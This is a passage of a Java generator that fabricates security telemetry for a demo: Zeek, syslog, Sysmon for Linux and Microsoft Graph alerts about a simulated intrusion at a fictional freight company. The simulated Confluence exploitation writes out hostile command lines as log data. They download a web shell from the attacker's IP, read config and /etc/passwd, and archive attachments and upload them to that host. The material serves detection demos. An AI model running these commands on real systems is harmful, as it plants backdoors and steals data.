                + " request=https://" + host + path + " outcome=" + status + " out=" + sent + " in=" + received
                + " requestClientApplication=Mozilla/5.0 (Windows NT 10.0; Win64; x64)";
    }

    // --- Zeek logs from the network sensor ---------------------------------------------------------------------

    private void dns(Out out, RandomGenerator random, RandomGenerator attacks) {
        zeekHeader(out, "dns", "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\trtt\tquery\tqclass"
                + "\tqclass_name\tqtype\tqtype_name\trcode\trcode_name\tAA\tTC\tRD\tRA\tZ\tanswers\tTTLs\trejected",
                "time\tstring\taddr\tport\taddr\tport\tenum\tcount\tinterval\tstring\tcount\tstring\tcount\tstring"
                        + "\tcount\tstring\tbool\tbool\tbool\tbool\tcount\tvector[string]\tvector[interval]\tbool");
        List<Person> office = company.officeStaff();
        background(random, 1_200, (time, r) -> {
            Person person = office.get(r.nextInt(office.size()));
            String query = SITES[r.nextInt(SITES.length)];
            String answer = query.endsWith(".local") ? "10.20.0.35" : "52.96." + r.nextInt(255) + "." + r.nextInt(255);
            out.line(zeekTime(time) + "\tC" + hex(r, 17) + "\t" + company.addressOf(person.device()) + "\t"
                    + (49_152 + r.nextInt(10_000)) + "\t10.20.0.2\t53\tudp\t" + r.nextInt(65_535) + "\t0.0"
                    + (10 + r.nextInt(80)) + "\t" + query + "\t1\tC_INTERNET\t1\tA\t0\tNOERROR\tF\tF\tT\tT\t0\t" + answer
                    + "\t300.000000\tF");
        });
    }

    private void http(Out out, RandomGenerator random, RandomGenerator attacks) {
        zeekHeader(out, "http", "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_depth\tmethod\thost\turi"
                        + "\treferrer\tversion\tuser_agent\trequest_body_len\tresponse_body_len\tstatus_code\tstatus_msg",
                "time\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\tstring\tstring\tstring\tstring\tcount"
                        + "\tcount\tcount\tstring");
        String wiki = company.addressOf(EXPLOITED_HOST);
        String[] pages = {"/display/OPS/Dispatch+Handbook", "/display/IT/VPN+Setup", "/pages/viewpage.action?pageId=",
                "/display/HR/Holiday+Policy", "/login.action", "/dashboard.action"};
        // the sensor sees the DMZ side of the reverse proxy: staff reading the wiki from home, and the web site
        background(random, 500, (time, r) -> {
            boolean toWiki = r.nextInt(3) != 0;
            String page = toWiki ? pages[r.nextInt(pages.length)] : "/";
            if (page.endsWith("=")) {
                page += 65_000 + r.nextInt(2_000);
            }
            out.line(http(time, r, "198.18." + r.nextInt(8) + ".10", toWiki ? wiki : "10.20.0.80", "GET",
                    toWiki ? "wiki.kestrelfreight.example" : "www.kestrelfreight.example", page,
                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36", 0,
                    4_000 + r.nextInt(60_000), 200));
        });
        ZonedDateTime exploit = exploitStart();
        String agent = "python-requests/2.31.0";
        out.line(http(exploit, attacks, EXPLOIT_SOURCE_IP, wiki, "GET", "wiki.kestrelfreight.example", "/login.action",
                agent, 0, 9_921, 200));
        out.line(http(exploit.plusSeconds(31), attacks, EXPLOIT_SOURCE_IP, wiki, "POST", "wiki.kestrelfreight.example",
                "/template/aui/text-inline.vm", agent, 311, 1_342, 200));
        out.line(http(exploit.plusSeconds(99), attacks, EXPLOIT_SOURCE_IP, wiki, "POST", "wiki.kestrelfreight.example",
                "/template/aui/text-inline.vm", agent, 367, 1_398, 200));
        out.line(http(exploit.plusMinutes(3), attacks, EXPLOIT_SOURCE_IP, wiki, "POST", "wiki.kestrelfreight.example",
                "/template/aui/text-inline.vm", agent, 402, 1_377, 200));
        for (int i = 0; i < 4; i++) {
            out.line(http(exploit.plusMinutes(5 + i).plusSeconds(12), attacks, EXPLOIT_SOURCE_IP, wiki, "POST",
                    "wiki.kestrelfreight.example", "/noop.jsp", agent, 88 + i * 17, 210 + i * 40, 200));
        }
    }

    private String http(ZonedDateTime time, RandomGenerator random, String from, String to, String method, String host,
            String uri, String agent, int requestLength, int responseLength, int status) {
        return zeekTime(time) + "\tC" + hex(random, 17) + "\t" + from + "\t" + (30_000 + random.nextInt(30_000)) + "\t"
                + to + "\t443\t1\t" + method + "\t" + host + "\t" + uri + "\t-\t1.1\t" + agent + "\t" + requestLength
                + "\t" + responseLength + "\t" + status + "\t" + (status == 200 ? "OK" : "-");
    }

    private void zeekHeader(Out out, String path, String fields, String types) {
        out.line("#separator \\x09");
        out.line("#set_separator\t,");
        out.line("#empty_field\t(empty)");
        out.line("#unset_field\t-");
        out.line("#path\t" + path);
        out.line("#open\t" + firstDay().atStartOfDay(ZoneOffset.UTC).format(DateTimeFormatter.ofPattern(
                "yyyy-MM-dd-HH-mm-ss")));
        out.line("#fields\t" + fields);
        out.line("#types\t" + types);
    }

    private static String zeekTime(ZonedDateTime time) {
        Instant instant = time.toInstant();
        return instant.getEpochSecond() + "." + String.format(Locale.ROOT, "%06d", instant.getNano() / 1_000);
    }

    // --- Linux syslog ------------------------------------------------------------------------------------------

    /** rsyslog's high-precision file format: an RFC 3339 timestamp with its year in place of the BSD one. */
    private static String rsyslog(ZonedDateTime time, String host, String tag, String message) {
        return "<38>" + time.format(DateTimeFormatter.ISO_OFFSET_DATE_TIME) + " " + host + " " + tag + ": " + message;
    }

    private void sshd(Out out, RandomGenerator random, RandomGenerator attacks) {
        int pid = 20_000;
        ZonedDateTime start = firstDay().atStartOfDay(ZoneOffset.UTC);
        int hours = (int) Math.max(1, DAYS * 24 * Math.min(1.0, scale * 2));
        for (int hour = 0; hour < DAYS * 24; hour += Math.max(1, DAYS * 24 / hours)) {
            ZonedDateTime time = start.plusHours(hour).plusMinutes(random.nextInt(60));
            out.line(rsyslog(time, "web01", "sshd[" + pid++ + "]", "Accepted publickey for deploy from 10.20.0.60 port "
                    + (50_000 + random.nextInt(10_000)) + " ssh2: ED25519 SHA256:" + hex(random, 43)));
        }
        ZonedDateTime brute = attackStart().plusHours(3);
        for (int i = 0; i < 60; i++) {
            out.line(rsyslog(brute.plusSeconds(i * 2L), "web01", "sshd[" + pid++ + "]", "Failed password for "
                    + (i % 3 == 0 ? "invalid user admin" : "root") + " from " + SSH_ATTACKER_IP + " port " + (30_000 + i)
                    + " ssh2"));
        }
        out.line(rsyslog(brute.plusSeconds(125), "web01", "sshd[" + pid + "]", "Accepted password for root from "
                + SSH_ATTACKER_IP + " port 30077 ssh2"));
    }

    private void linux(Out out, RandomGenerator random, RandomGenerator attacks) {
        String[] servers = {"db01", "jump01", "sensor01", EXPLOITED_HOST};
        long[] record = {40_000};
        Person admin = company.people().stream().filter(p -> !p.adminRoles().isEmpty()).findFirst().orElseThrow();
        background(random, 300, (time, r) -> {
            String host = servers[r.nextInt(servers.length)];
            int roll = r.nextInt(10);
            if (roll < 5) {
                out.line(rsyslog(time, host, "CRON[" + (3_000 + r.nextInt(60_000)) + "]",
                        "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)"));
            } else if (roll < 7 && host.equals("jump01")) {
                out.line(rsyslog(time, host, "sudo", admin.name() + " : TTY=pts/0 ; PWD=/home/" + admin.name()
                        + " ; USER=root ; COMMAND=/usr/bin/systemctl status sshd"));
            } else if (host.equals(EXPLOITED_HOST)) {
                // Sysmon for Linux on the wiki: the usual housekeeping processes
                out.line(sysmonLinux(time, record[0]++, 1, ordered("RuleName", "-", "UtcTime", sysmonTime(time),
                        "ProcessGuid", guid(r), "ProcessId", String.valueOf(2_000 + r.nextInt(60_000)),
                        "Image", "/usr/bin/find", "CommandLine",
                        "find /var/atlassian/application-data/confluence/temp -mtime +1 -delete",
                        "CurrentDirectory", "/", "User", "confluence", "LogonId", "0", "IntegrityLevel", "no level",
                        "ParentImage", "/usr/sbin/cron", "ParentCommandLine", "/usr/sbin/cron -f -P",
                        "ParentUser", "root")));
            } else {
                out.line(rsyslog(time, host, "systemd[1]", "Started Session " + r.nextInt(9_000) + " of User root."));
            }
        });
        // The exploit of CVE-2023-22527: the Confluence JVM runs what the injected template tells it.
        ZonedDateTime exploit = exploitStart();
        String java = "/opt/atlassian/confluence/jre/bin/java";
        String javaLine = java + " -Djava.util.logging.config.file=/opt/atlassian/confluence/conf/logging.properties"
                + " -classpath /opt/atlassian/confluence/bin/bootstrap.jar org.apache.catalina.startup.Bootstrap start";
        String[][] commands = {
                {"99", "/usr/bin/sh", "sh -c id"},
                {"180", "/usr/bin/sh", "sh -c curl -s http://" + EXPLOIT_SOURCE_IP + "/n.jsp -o /opt/atlassian/confluence"
                        + "/confluence/noop.jsp"},
                {"312", "/usr/bin/bash", "bash -c cat /var/atlassian/application-data/confluence/confluence.cfg.xml"},
                {"372", "/usr/bin/bash", "bash -c uname -a; cat /etc/passwd; ip addr"},
                {"432", "/usr/bin/bash", "bash -c tar czf /tmp/.c.tgz /var/atlassian/application-data/confluence"
                        + "/attachments"},
                {"492", "/usr/bin/bash", "bash -c curl -s -T /tmp/.c.tgz https://" + EXPLOIT_SOURCE_IP + "/u"}};
        for (String[] command : commands) {
            ZonedDateTime time = exploit.plusSeconds(Long.parseLong(command[0]));
            out.line(sysmonLinux(time, record[0]++, 1, ordered("RuleName", "-", "UtcTime", sysmonTime(time),
                    "ProcessGuid", guid(attacks), "ProcessId", String.valueOf(31_000 + attacks.nextInt(1_000)),
                    "Image", command[1], "CommandLine", command[2], "CurrentDirectory", "/opt/atlassian/confluence/bin",
                    "User", "confluence", "LogonId", "0", "IntegrityLevel", "no level",
                    "ParentProcessGuid", "{8c1f3b2a-5d7e-6560-0d1a-3f2b00000000}", "ParentProcessId", "1187",
                    "ParentImage", java, "ParentCommandLine", javaLine, "ParentUser", "confluence")));
        }
        ZonedDateTime drop = exploit.plusSeconds(181);
        out.line(sysmonLinux(drop, record[0]++, 3, ordered("RuleName", "-", "UtcTime", sysmonTime(drop),
                "ProcessGuid", guid(attacks), "ProcessId", "31544", "Image", "/usr/bin/curl", "User", "confluence",
                "Protocol", "tcp", "Initiated", "true", "SourceIsIpv6", "false",
                "SourceIp", company.addressOf(EXPLOITED_HOST), "SourcePort", "53102", "DestinationIsIpv6", "false",
                "DestinationIp", EXPLOIT_SOURCE_IP, "DestinationPort", "80")));
        out.line(sysmonLinux(drop.plusSeconds(1), record[0], 11, ordered("RuleName", "-",
                "UtcTime", sysmonTime(drop.plusSeconds(1)), "ProcessGuid", guid(attacks), "ProcessId", "31544",
                "Image", "/usr/bin/curl", "TargetFilename", "/opt/atlassian/confluence/confluence/noop.jsp",
                "CreationUtcTime", sysmonTime(drop.plusSeconds(1)), "User", "confluence")));
    }

    /** A Sysmon for Linux event as it reaches syslog: RFC 5424, the event's XML as the message. */
    private String sysmonLinux(ZonedDateTime time, long record, int eventId, Map<String, Object> data) {
        StringBuilder xml = new StringBuilder("<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-"
                + "4f13-b0d6-01fc615a0f97}\"/><EventID>").append(eventId).append("</EventID><Version>5</Version>"
                + "<Level>4</Level><Task>").append(eventId).append("</Task><Opcode>0</Opcode><Keywords>"
                + "0x8000000000000000</Keywords><TimeCreated SystemTime=\"").append(iso(time)).append("\"/>"
                + "<EventRecordID>").append(record).append("</EventRecordID><Correlation/><Execution ProcessID=\"812\""
                + " ThreadID=\"812\"/><Channel>Linux-Sysmon/Operational</Channel><Computer>").append(EXPLOITED_HOST)
                .append("</Computer><Security UserId=\"0\"/></System><EventData>");
        data.forEach((name, value) -> xml.append("<Data Name=\"").append(name).append("\">")
                .append(escapeXml(String.valueOf(value))).append("</Data>"));
        xml.append("</EventData></Event>");
        return "<14>1 " + time.format(DateTimeFormatter.ISO_OFFSET_DATE_TIME) + " " + EXPLOITED_HOST + " sysmon 812 - - "
                + xml;
    }

    private static String escapeXml(String value) {
        return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;");
    }

    private static String sysmonTime(ZonedDateTime time) {
        return time.format(DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss.SSS"));
    }

    private static String guid(RandomGenerator random) {
        String hex = hex(random, 32).toLowerCase(Locale.ROOT);
        return "{" + hex.substring(0, 8) + "-" + hex.substring(8, 12) + "-" + hex.substring(12, 16) + "-"
                + hex.substring(16, 20) + "-" + hex.substring(20) + "}";
    }

    // --- Microsoft Graph Security API (alerts_v2, incidents with $expand=alerts) --------------------------------

    private List<Map<String, Object>> graphIncidents() {
        String tenantId = "4f7c2b1e-9d3a-4c55-8a0e-6b2f1d9e3c71";
        ZonedDateTime exploit = exploitStart();
        Host wiki = company.host(EXPLOITED_HOST);
        Map<String, Object> wikiDevice = ordered("@odata.type", "#microsoft.graph.security.deviceEvidence",
                "createdDateTime", iso(exploit.plusSeconds(40)), "verdict", "suspicious", "remediationStatus", "none",
                "roles", List.of(), "tags", List.of(), "firstSeenDateTime", "2024-03-11T10:02:17Z",
                "mdeDeviceId", "7b1f0e2d9c3a4b5e6f708192a3b4c5d6e7f80912", "azureAdDeviceId", null,
                "deviceDnsName", wiki.name(), "osPlatform", "Linux", "osBuild", null, "version", "Ubuntu 22.04",
                "healthStatus", "active", "riskScore", "high", "rbacGroupId", 0, "rbacGroupName", "DMZ",
                "onboardingStatus", "onboarded", "defenderAvStatus", "updated", "loggedOnUsers", List.of(),
                "ipInterfaces", List.of(wiki.address()));
        Map<String, Object> attacker = ordered("@odata.type", "#microsoft.graph.security.ipEvidence",
                "createdDateTime", iso(exploit.plusSeconds(40)), "verdict", "malicious", "remediationStatus", "none",
                "roles", List.of("attacker"), "tags", List.of(), "ipAddress", EXPLOIT_SOURCE_IP,
                "countryLetterCode", "NL");
        Map<String, Object> javaProcess = ordered("@odata.type", "#microsoft.graph.security.processEvidence",
                "createdDateTime", iso(exploit.plusSeconds(40)), "verdict", "suspicious", "remediationStatus", "none",
                "roles", List.of(), "tags", List.of(), "processId", 1187, "parentProcessId", 1,
                "processCommandLine", "/opt/atlassian/confluence/jre/bin/java -classpath /opt/atlassian/confluence/bin"
                        + "/bootstrap.jar org.apache.catalina.startup.Bootstrap start",
                "processCreationDateTime", "2026-10-02T06:11:40Z", "detectionStatus", "detected",
                "imageFile", ordered("fileName", "java", "filePath", "/opt/atlassian/confluence/jre/bin",
                        "sha256", "9d3e1b7a6c0f4e2d8b5a1c3f7e9d0b2a4c6e8f1a3b5d7c9e0f2a4b6c8d0e1f3a"),
                "userAccount", ordered("accountName", "confluence", "domainName", null, "userSid", null,
                        "azureAdUserId", null, "userPrincipalName", null, "displayName", "confluence"));
        Map<String, Object> exploitAlert = graphAlert("da638671227418512345_-1290364511", "2741",
                tenantId, exploit.plusSeconds(38), exploit.plusMinutes(12), "high", "microsoftDefenderForEndpoint",
                "edr", "5e3d9c1a-7b2f-4a6e-9c0d-1f2e3a4b5c6d",
                "Possible exploitation of CVE-2023-22527 in Atlassian Confluence",
                "A Confluence server process received a request matching the template injection in CVE-2023-22527 and"
                        + " then started a shell. An attacker may be running commands on the server.",
                "InitialAccess", List.of("T1190", "T1059.004"), List.of(wikiDevice, attacker, javaProcess));
        Map<String, Object> webShellAlert = graphAlert("da638671227961234567_1877421195", "2741", tenantId,
                exploit.plusMinutes(5).plusSeconds(20), exploit.plusMinutes(12), "high",
                "microsoftDefenderForEndpoint", "edr", "a2c4e6f8-1b3d-4f5a-8c7e-9d0b1a2c3e4f",
                "Possible web shell installation",
                "A file with web server script content was written to a web-served folder by a process the web"
                        + " server started, and the web server then ran commands through it.",
                "Persistence", List.of("T1505.003"), List.of(wikiDevice, attacker, ordered(
                        "@odata.type", "#microsoft.graph.security.fileEvidence",
                        "createdDateTime", iso(exploit.plusMinutes(5)), "verdict", "malicious",
                        "remediationStatus", "none", "roles", List.of(), "tags", List.of(),
                        "detectionStatus", "detected", "mdeDeviceId", "7b1f0e2d9c3a4b5e6f708192a3b4c5d6e7f80912",
                        "fileDetails", ordered("fileName", "noop.jsp", "filePath",
                                "/opt/atlassian/confluence/confluence", "fileSize", 1_871,
                                "sha256", "3f5a7c9e1b2d4f6a8c0e2b4d6f8a0c1e3b5d7f9a1c2e4f6a8b0d2f4a6c8e0b1d"))));
        Map<String, Object> exploitIncident = graphIncident(GRAPH_EXPLOIT_INCIDENT, tenantId,
                "Multi-stage incident involving Initial access & Persistence on one endpoint",
                exploit.plusSeconds(38), exploit.plusMinutes(12), "high", List.of(exploitAlert, webShellAlert));
        ZonedDateTime spray = attackStart().minusHours(5);
        Person sprayed = company.person(SPRAYED_USER);
        Map<String, Object> user = ordered("@odata.type", "#microsoft.graph.security.userEvidence",
                "createdDateTime", iso(spray.plusHours(9)), "verdict", "suspicious", "remediationStatus", "none",
                "roles", List.of("compromised"), "tags", List.of(), "userAccount", ordered("accountName",
                        sprayed.name(), "domainName", DemoCompany.MAIL_DOMAIN, "userSid", null,
                        "azureAdUserId", "0b9c1d2e-3f40-4a5b-8c6d-7e8f9a0b1c2d",
                        "userPrincipalName", sprayed.upn(), "displayName", sprayed.displayName()));
        Map<String, Object> address = ordered("@odata.type", "#microsoft.graph.security.ipEvidence",
                "createdDateTime", iso(spray.plusHours(9)), "verdict", "suspicious", "remediationStatus", "none",
                "roles", List.of(), "tags", List.of(), "ipAddress", SPRAY_SOURCE_IP, "countryLetterCode", "NL");
        Map<String, Object> signInAlert = graphAlert("ad3b5d7f9a1c2e4f6a8b0d2f4a6c8e0b1d3f5a7c9e", "2743", tenantId,
                spray.plusHours(9).plusMinutes(8), spray.plusHours(9).plusMinutes(8), "medium",
                "azureAdIdentityProtection", "azureAdIdentityProtection", "UnfamiliarFeatures",
                "Unfamiliar sign-in properties",
                "The sign-in had properties not seen recently for this user: a new IP address, location and browser."
                        + " It followed a burst of failed sign-ins from the same address.",
                "InitialAccess", List.of("T1078.004"), List.of(user, address));
        signInAlert.put("firstActivityDateTime", iso(sprayHit()));
        signInAlert.put("lastActivityDateTime", iso(sprayHit()));
        Map<String, Object> signInIncident = graphIncident(GRAPH_SIGNIN_INCIDENT, tenantId,
                "Unfamiliar sign-in properties involving one user", spray.plusHours(9).plusMinutes(8),
                spray.plusHours(9).plusMinutes(8), "medium", List.of(signInAlert));
        return List.of(signInIncident, exploitIncident);
    }

    private static Map<String, Object> graphAlert(String id, String incidentId, String tenantId, ZonedDateTime created,
            ZonedDateTime updated, String severity, String serviceSource, String detectionSource, String detectorId,
            String title, String description, String category, List<String> techniques, List<Object> evidence) {
        Map<String, Object> alert = new LinkedHashMap<>();
        alert.put("@odata.type", "#microsoft.graph.security.alert");
        alert.put("id", id);
        alert.put("providerAlertId", id.replace("da", "").replace("ad", ""));
        alert.put("incidentId", incidentId);
        alert.put("status", "new");
        alert.put("severity", severity);
        alert.put("classification", null);
        alert.put("determination", null);
        alert.put("serviceSource", serviceSource);
        alert.put("detectionSource", detectionSource);
        alert.put("productName", serviceSource.equals("azureAdIdentityProtection") ? "Microsoft Entra ID Protection"
                : "Microsoft Defender for Endpoint");
        alert.put("detectorId", detectorId);
        alert.put("tenantId", tenantId);
        alert.put("title", title);
        alert.put("description", description);
        alert.put("recommendedActions", "Investigate the device's timeline and isolate it if the activity is confirmed.");
        alert.put("category", category);
        alert.put("assignedTo", null);
        alert.put("alertWebUrl", "https://security.microsoft.com/alerts/" + id + "?tid=" + tenantId);
        alert.put("incidentWebUrl", "https://security.microsoft.com/incidents/" + incidentId + "?tid=" + tenantId);
        alert.put("actorDisplayName", null);
        alert.put("threatDisplayName", null);
        alert.put("threatFamilyName", null);
        alert.put("mitreTechniques", techniques);
        alert.put("createdDateTime", iso(created));
        alert.put("lastUpdateDateTime", iso(updated));
        alert.put("resolvedDateTime", null);
        alert.put("firstActivityDateTime", iso(created.minusSeconds(7)));
        alert.put("lastActivityDateTime", iso(updated));
        alert.put("comments", List.of());
        alert.put("evidence", evidence);
        alert.put("systemTags", List.of());
        return alert;
    }

    private static Map<String, Object> graphIncident(String id, String tenantId, String name, ZonedDateTime created,
            ZonedDateTime updated, String severity, List<Map<String, Object>> alerts) {
        Map<String, Object> incident = new LinkedHashMap<>();
        incident.put("@odata.type", "#microsoft.graph.security.incident");
        incident.put("id", id);
        incident.put("tenantId", tenantId);
        incident.put("status", "active");
        incident.put("incidentWebUrl", "https://security.microsoft.com/incidents/" + id + "?tid=" + tenantId);
        incident.put("redirectIncidentId", null);
        incident.put("displayName", name);
        incident.put("createdDateTime", iso(created));
        incident.put("lastUpdateDateTime", iso(updated));
        incident.put("assignedTo", null);
        incident.put("classification", "unknown");
        incident.put("determination", "unknown");
        incident.put("severity", severity);
        incident.put("customTags", List.of());
        incident.put("systemTags", List.of());
        incident.put("description", null);
        incident.put("comments", List.of());
        incident.put("alerts", alerts);
        return incident;
    }

    // --- helpers -----------------------------------------------------------------------------------------------

    /** 09:12 on the day before the demo's day: the phishing document opens. */
    private ZonedDateTime attackStart() {
        return attackDay.plusHours(9).plusMinutes(12);
    }

    /** 04:17:30 on the day before the demo's day: the spray's attempt on its last account, which succeeds. */
    private ZonedDateTime sprayHit() {
        return attackStart().minusHours(5).plusSeconds(company.original().size() * 11L);
    }

    /** 09:34 on the day before the demo's day: the intrusion reaches the file server with the backup account. */
    private ZonedDateTime lateralStart() {
        return attackStart().plusMinutes(22);
    }

    /** 14:03 on the day before the demo's day: the first request to the wiki from the exploit's source. */
    private ZonedDateTime exploitStart() {
        return attackDay.plusHours(14).plusMinutes(3);
    }

    private static String hex(RandomGenerator random, int length) {
        StringBuilder s = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            s.append(Character.forDigit(random.nextInt(16), 16));
        }
        return s.toString().toUpperCase(Locale.ROOT);
    }

    /**
     * A map that keeps its keys in the order given. {@code Map.of} iterates in an order that changes from one JVM to
     * the next, which would change the generated records' bytes, and so their event ids, on every run.
     */
    private static Map<String, Object> ordered(Object... keysAndValues) {
        Map<String, Object> map = new LinkedHashMap<>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            map.put((String) keysAndValues[i], keysAndValues[i + 1]);
        }
        return map;
    }

    private static String iso(ZonedDateTime time) {
        return DateTimeFormatter.ISO_INSTANT.format(Instant.from(time));
    }
}
